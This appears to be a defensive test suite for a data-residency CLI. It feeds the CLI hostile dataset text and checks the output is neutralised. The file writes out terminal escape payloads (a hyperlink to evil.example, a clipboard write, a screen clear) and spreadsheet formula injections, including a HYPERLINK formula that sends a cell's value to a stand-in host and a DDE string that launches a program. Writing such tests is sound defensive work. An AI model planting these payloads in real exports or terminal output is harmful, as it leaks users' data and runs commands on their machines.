import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { Dataset } from '@mfa-residency/dataset'
import { parse } from 'csv-parse/sync'
import { afterAll, describe, expect, test } from 'vitest'
import {
  colour,
  controlsIn,
  hasScript,
  onTerminal as onPseudoTerminal,
} from '../../../packages/output-safety/test-support/pseudo-terminal.js'
import { bin, datasetFile, run } from './run-cli.js'

/*
 * The hostile-input suite for the CLI's output channels: a dataset file whose text holds terminal
 * escapes and spreadsheet formulas, and assertions on what a user would get: the bytes a terminal
 * receives, and the cells a spreadsheet would evaluate.
 */

const sovereign = 'multifactor-authentication-activity-reports-for-sovereign-clouds'
const escapes = {
  osc8: '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  clear: '\u001b[2J',
  osc0: '\u001b]0;pwned\u0007',
  osc52: '\u001b]52;c;ZXZpbA==\u0007',
  c1csi: '\u009b2J',
}
/** How the CLI shows each: every control character as `\u{…}`. */
const shown = {
  osc8: '\\u{1b}]8;;https://evil.example\\u{7}click\\u{1b}]8;;\\u{7}',
  clear: '\\u{1b}[2J',
  osc0: '\\u{1b}]0;pwned\\u{7}',
  osc52: '\\u{1b}]52;c;ZXZpbA==\\u{7}',
  c1csi: '\\u{9b}2J',
}
const all = Object.values(escapes).join(' ')
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\tleading tab',
  '\rleading carriage return',
]
const formulaTable = 'data-stored-by-microsoft-entra-multifactor-authentication'

/** Both languages of a text get the same hostile text. */
const both = (text: { en: string; sv: string | null }, value: string) => {
  text.en = value
  text.sv = value
}

function hostileDataset(): Dataset {
  const data = JSON.parse(readFileSync(datasetFile, 'utf8')) as Dataset
  const table = data.tables.find((entity) => entity.id === sovereign)!
  const [china, government] = table.rows
  const cells: [typeof china, string, keyof typeof escapes][] = [
    [china, 'sign-in-logs', 'osc8'],
    [china, 'multifactor-authentication-activity-report', 'clear'],
    [china, 'multifactor-authentication-service-logs', 'osc0'],
    [government, 'sign-in-logs', 'osc52'],
    [government, 'multifactor-authentication-activity-report', 'c1csi'],
  ]
  for (const [row, column, name] of cells) {
    row!.cells[column] = { en: [`hostile ${escapes[name]}`], sv: [`hostile ${escapes[name]}`] }
  }
  both(table.columns[1]!.label, `Sign-in logs ${escapes.osc0}`)
  table.section.en[table.section.en.length - 1] += ` ${escapes.osc0}`
  table.section.sv![table.section.sv!.length - 1] += ` ${escapes.osc0}`
  both(data.lists[1]!.items[0]!.text, `hostile list item ${all}`)
  both(data.notes[0]!.text, `hostile note ${all}`)
  both(data.terms.find((term) => term.id === 'data-store/blocked-users')!.label, `Blocked ${all}`)
  data.sources.en.title = `Title ${escapes.osc52}`
  // The formulas go into the first six values of another table, in both languages.
  const target = data.tables.find((entity) => entity.id === formulaTable)!
  const slots = target.rows.flatMap((row) =>
    target.columns.flatMap((column) =>
      row.cells[column.id]!.en.map((_, index) => ({ row, column, index })),
    ),
  )
  formulas.forEach((formula, at) => {
    const { row, column, index } = slots[at]!
    const cell = row.cells[column.id]!
    cell.en[index] = formula
    cell.sv![index] = formula
  })
  return data
}

const folder = mkdtempSync(path.join(tmpdir(), 'mfa-residency-hostile-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))
const file = path.join(folder, 'hostile.json')
writeFileSync(file, JSON.stringify(hostileDataset()))

describe('CSV: no cell a spreadsheet would evaluate', () => {
  test('every formula value starts with a single quote, in both languages', async () => {
    const result = await run(['export', '--format', 'csv', '--lang', 'both', '--dataset', file])
    expect(result).toMatchObject({ code: 0, stderr: '' })
    const records = parse(result.stdout, { columns: true }) as Record<string, string>[]
    const ours = records.filter((record) => record.table === formulaTable).slice(0, 6)
    expect(ours.map((record) => record.en)).toEqual(formulas.map((formula) => `'${formula}`))
    expect(ours.map((record) => record.sv)).toEqual(formulas.map((formula) => `'${formula}`))
    for (const field of records.flatMap((record) => Object.values(record)))
      expect(field).not.toMatch(/^[=+\-@\t\r]/)
    expect(result.stdout).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`)
  })

  test('to a pipe, CSV keeps the escapes as data; NDJSON keeps every text exactly', async () => {
    const csv = await run(['export', '--format', 'csv', '--dataset', file])
    const records = parse(csv.stdout, { columns: true }) as Record<string, string>[]
    expect(records.map((record) => record.en)).toContain(`hostile ${escapes.osc52}`)
    const ndjson = await run(['export', '--format', 'ndjson', '--lang', 'both', '--dataset', file])
    const values = ndjson.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { en: string; sv: string })
    expect(values.map((value) => value.sv)).toEqual(expect.arrayContaining(formulas))
    expect(values.map((value) => value.en)).toContain(`hostile ${escapes.c1csi}`)
    // JSON escapes even what JSON.stringify leaves raw: the C1 CSI is `\u009b` on the wire.
    expect(ndjson.stdout).toContain('"hostile \\u009b2J"')
  })
})

if (!hasScript && !process.env.CI)
  console.warn('terminal tests skipped: no util-linux `script` to give the CLI a pseudo-terminal')

/**
 * The CLI under a real pseudo-terminal (util-linux `script`): stdout is a TTY, as for a user, and
 * what comes back is every byte the terminal would receive (the pty turns LF into CRLF).
 */
/** The command as a user runs it, under a pseudo-terminal: every byte the terminal gets. */
const onTerminal = (args: string[], env: Record<string, string> = {}) =>
  onPseudoTerminal([process.execPath, bin, ...args, '--dataset', file], { env })

describe.skipIf(!hasScript && !process.env.CI)(
  'a terminal receives no escape from the data',
  () => {
    const commands: [string, string[]][] = [
      ['show', ['show', sovereign]],
      ['lists', ['lists']],
      ['notes', ['notes']],
      ['search', ['search', 'hostile']],
      ['where', ['where', '--cloud', '21vianet']],
      ['stores', ['stores']],
      ['terms', ['terms', '--kind', 'data-store']],
      ['tables', ['tables']],
      ['info', ['info']],
      ['export md', ['export', '--format', 'md']],
    ]

    test.each(commands)('%s --no-color: no ESC, BEL or C1 byte at all', async (_, args) => {
      for (const lang of ['en', 'sv']) {
        const bytes = await onTerminal([...args, '--no-color', '--lang', lang])
        expect(controlsIn(bytes)).toEqual([])
        expect(bytes.toString('utf8')).toMatch(/\\u\{(1b|9b)\}/)
      }
    })

    test('a real terminal: colour is on without FORCE_COLOR', async () => {
      expect((await onTerminal(['show', sovereign])).toString()).toMatch(colour)
    })

    test.each(commands)('%s in colour: the only escapes are its own colours', async (_, args) => {
      const text = (await onTerminal(args)).toString('utf8')
      expect(controlsIn(Buffer.from(text.replace(new RegExp(colour, 'g'), '')))).toEqual([])
    })

    test('each escape is shown where it was, in a form a reader can see', async () => {
      // Wrapped lines joined again: the wrapping breaks at spaces.
      const seen = async (args: string[]) =>
        (await onTerminal([...args, '--no-color'])).toString().replace(/ *\r\n */g, ' ')
      const search = await seen(['search', 'hostile'])
      for (const form of Object.values(shown)) expect(search).toContain(`hostile ${form}`)
      expect(await seen(['lists'])).toContain(`hostile list item ${Object.values(shown).join(' ')}`)
      expect(await seen(['info'])).toContain(`Title ${shown.osc52}`)
      // In Markdown, escaped as Markdown too: the URL in a code span, so no renderer links it.
      const markdown = await seen(['export', '--format', 'md'])
      expect(markdown).toContain(
        '| hostile \\u{1b}]8;;`https://evil.example\\u{7}click\\u{1b}]8;;\\u{7}` | hostile \\u{1b}\\[2J | hostile \\u{1b}]0;pwned\\u{7} |',
      )
      expect(markdown).toContain('| hostile \\u{1b}]52;c;ZXZpbA==\\u{7} | hostile \\u{9b}2J |')
    })

    test('data formats on a terminal: CSV shows the escapes, JSON and NDJSON escape them', async () => {
      for (const args of [
        ['export', '--format', 'csv'],
        ['export', '--format', 'ndjson'],
        ['export', '--format', 'json'],
        ['show', sovereign, '--json'],
        ['search', 'hostile', '--json'],
        ['lists', '--json'],
      ]) {
        expect(controlsIn(await onTerminal(args))).toEqual([])
      }
      expect((await onTerminal(['export', '--format', 'csv'])).toString()).toContain(
        `hostile ${shown.osc52}`,
      )
    })
  },
)
